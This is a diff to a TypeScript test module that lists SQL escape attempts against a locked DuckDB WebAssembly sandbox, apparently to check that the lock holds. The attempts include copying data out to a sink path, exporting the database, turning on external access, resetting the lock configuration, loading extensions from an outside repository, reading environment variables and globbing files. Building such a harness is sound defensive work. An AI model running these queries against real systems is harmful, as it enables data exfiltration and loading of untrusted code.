@@ -1,13 +1,10 @@
-import {js, type Attack, type Weakening} from "./attack.ts";
+import {both, js, type Attack, type Weakening} from "./attack.ts";
 
 const lock: Weakening = {app: ["lock"], page: {"connect-src": "*"}};
 
 /** An SQL attack, as a query that a cell sends; a query that answers counts as won where `answers` says so. */
 const sql = (name: string, query: string, {answers = false, ...more}: Partial<Attack> & {answers?: boolean} = {}) =>
-  js(name, lock, `await db.query(${JSON.stringify(query)}${answers ? "); won();" : ");"}`, {database: true, ...more});
-
-const nothing = "DuckDB's WebAssembly build has no such file system";
-const both = (reason: string) => ({unshown: {chromium: reason, firefox: reason}});
+  js(name, lock, `await db.query(${JSON.stringify(query)}${answers ? "); won();" : ");"}`, {uses: ["db"], ...more});
 
 /** Every way that SQL has out of the database. */
 export const sqlAttacks: readonly Attack[] = [
@@ -20,10 +17,13 @@ export const sqlAttacks: readonly Attack[] = [
   sql("sql-copy-from", "create temp table cf(a int, b int); copy cf from 'SINK/sql-copy-from.csv'"),
   sql("sql-copy-to-address", "copy (select 'secret') to 'SINK/sql-copy-to-address.csv'"),
   sql("sql-copy-to", "copy (select 'secret' as s) to '/tmp/secret.csv'", {answers: true}),
-  sql("sql-export", "export database '/tmp/out'", both(nothing)),
+  sql("sql-export", "export database '/tmp/out'", {answers: true}),
   sql("sql-set", "set enable_external_access = true", {
     answers: true,
-    ...both("the setting cannot be turned on while a database runs, locked or not")
+    ...both({
+      reason: "the setting cannot be turned on while a database runs, locked or not",
+      says: /Cannot change enable_external_access/
+    })
   }),
   sql("sql-set-autoload", "set autoload_known_extensions = true", {answers: true}),
   sql("sql-reset", "reset lock_configuration", {answers: true}),
@@ -31,8 +31,21 @@ export const sqlAttacks: readonly Attack[] = [
   sql("sql-pragma", "pragma memory_limit = '100GB'", {answers: true}),
   sql("sql-install", "set custom_extension_repository = 'SINK/sql-install'; install spatial; load spatial"),
   sql("sql-load", "load 'SINK/sql-load.wasm'"),
-  sql("sql-glob", "select 1 / count(*) from glob('/*')", both(nothing)),
-  sql("sql-getenv", "select getenv('HOME')", both("the WebAssembly build has no getenv")),
-  sql("sql-secret", "create persistent secret s (type s3, key_id 'k', secret 's')", both("needs the extension httpfs")),
-  js("sql-interpolated", lock, `await db.sql\`select * from read_csv(\${u + ".csv"})\`;`, {database: true})
+  js(
+    "sql-glob",
+    lock,
+    `await db.query("copy (select 1) to 'planted.csv'").catch(() => {}); if ((await db.query("from glob('*')")).numRows() > 0) won();`,
+    {uses: ["db"]}
+  ),
+  sql(
+    "sql-getenv",
+    "select getenv('HOME')",
+    both({reason: "the WebAssembly build has no getenv", says: /getenv does not exist/})
+  ),
+  sql(
+    "sql-secret",
+    "create persistent secret s (type s3, key_id 'k', secret 's')",
+    both({reason: "secrets need the extension httpfs", says: /exists in the httpfs extension/})
+  ),
+  js("sql-interpolated", lock, `await db.sql\`select * from read_csv(\${u + ".csv"})\`;`, {uses: ["db"]})
 ];
